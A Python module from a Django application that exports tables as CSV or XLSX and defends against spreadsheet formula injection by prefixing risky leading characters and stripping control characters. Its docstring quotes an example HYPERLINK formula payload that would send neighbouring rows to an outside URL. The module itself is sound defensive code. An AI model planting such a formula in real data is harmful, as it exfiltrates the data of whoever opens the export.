"""The one way the application writes a table to a file (CSV or XLSX): values that cannot run as formulas.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return before them) as a formula: a name typed as `=HYPERLINK("http://…?x="&A3,"Voir")` would send
the rows next to it to whoever wrote it, from the workstation of whoever opened the export. Every
export goes through `table_response()`, which writes text cells as text, puts a `'` before such a
leading character (OWASP's advice for CSV injection) and replaces control characters (which also make
XLSX writers fail) with a space.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse

from ancrage.core import clock

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# C0 and C1 control characters (tab, line feed and carriage return are kept inside a cell, since
# notes have lines), and the characters XML 1.0 cannot hold.
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def safe_text(value: str) -> str:
    """A string a spreadsheet shows as written and never runs."""
    value = _CONTROL.sub(" ", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_value(value: Any) -> Any:
    """What a cell holds: numbers and dates keep their type; everything else becomes safe text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, datetime.datetime):
        # Spreadsheets hold no time zone: a moment is written as Montréal's wall-clock time.
        return clock.localtime(value).replace(tzinfo=None) if value.tzinfo else value
    if isinstance(value, int | float | decimal.Decimal | datetime.date):
        return value
    return safe_text(str(value))


def _csv_value(value: Any) -> Any:
    value = cell_value(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    return value


def write_csv(stream: io.TextIOBase | Any, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> int:
    """Write header and rows to a text stream; returns the number of rows."""
    writer = csv.writer(stream)
    writer.writerow([_csv_value(v) for v in header])
    count = 0
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
        count += 1
    return count


def write_xlsx(stream: Any, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str) -> int:
    """Write one bold header row and the rows as a workbook to a binary stream; returns the row count."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    # A sheet's name is never run, but Excel refuses some characters in it.
    sheet = book.create_sheet(title=re.sub(r"[\[\]:*?/\\\x00-\x1f]", " ", str(title))[:31].strip() or "Sheet")
    bold = Font(bold=True)
    sheet.append([_xlsx_cell(sheet, v, font=bold) for v in header])
    count = 0
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
        count += 1
    book.save(stream)
    return count


def _xlsx_cell(sheet, value: Any, *, font=None):
    from openpyxl.cell import WriteOnlyCell

    value = cell_value(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl itself turns a string starting with "=" into a formula: say it is text.
        cell.data_type = "s"
    if isinstance(value, datetime.datetime):
        cell.number_format = "yyyy-mm-dd hh:mm"
    elif isinstance(value, datetime.date):
        cell.number_format = "yyyy-mm-dd"
    if font is not None:
        cell.font = font
    return cell


def table_response(
    *,
    filename_stem: str,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    as_xlsx: bool = False,
    sheet_title: str = "",
) -> tuple[HttpResponse, int]:
    """An attachment holding the table: CSV (UTF-8 with a byte-order mark, which Excel needs to read
    accents) or XLSX. Returns the response and the number of rows written."""
    extension = "xlsx" if as_xlsx else "csv"
    safe_stem = re.sub(r"[^A-Za-z0-9._-]", "-", filename_stem) or "export"
    if as_xlsx:
        response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
        count = write_xlsx(response, header, rows, title=sheet_title or safe_stem)
    else:
        response = HttpResponse(content_type=CSV_CONTENT_TYPE)
        response.write("\ufeff")
        count = write_csv(response, header, rows)
    response["Content-Disposition"] = f'attachment; filename="{safe_stem}.{extension}"'
    return response, count
